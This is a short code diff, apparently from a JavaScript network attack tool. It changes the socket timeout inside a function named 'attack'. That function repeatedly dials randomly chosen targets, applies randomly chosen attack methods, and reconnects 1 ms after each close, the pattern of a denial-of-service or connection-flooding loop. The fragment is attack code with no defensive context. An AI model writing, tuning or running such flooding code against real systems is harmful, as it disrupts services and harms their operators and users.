@@ -49,7 +49,7 @@ const ways = [
 
 const attack = () => {
   const socket = dial(oneOf(targets))
-  socket.setTimeout(2_000, () => socket.destroy())
+  socket.setTimeout(5_000, () => socket.destroy())
   socket.on("close", () => setTimeout(attack, 1))
   socket.once("connect", () => oneOf(ways)(socket))
 }
